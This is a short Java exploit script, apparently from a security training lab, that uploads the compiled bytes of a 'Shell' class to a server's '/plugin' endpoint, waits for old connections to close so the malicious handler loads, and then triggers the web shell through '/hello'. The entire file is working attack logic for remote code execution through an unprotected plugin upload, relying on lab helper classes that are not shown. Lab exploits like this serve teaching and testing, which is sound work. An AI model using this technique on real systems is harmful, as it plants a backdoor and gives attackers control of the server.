import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;

public class Attack {
  public static void main(String[] args) throws Exception {
    // the handler is in new connections only
    System.setProperty("jdk.httpclient.keepalive.timeout", "1");
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    byte[] file = Attacker.classBytes(Shell.class);
    out.writeInt(file.length);
    out.write(file);
    Attacker.post("/plugin", bytes.toByteArray(), "Content-Type", "application/octet-stream");
    // longer than an idle connection lives
    Thread.sleep(3_000);
    Shells.use("/hello");
    Attacker.done();
  }
}
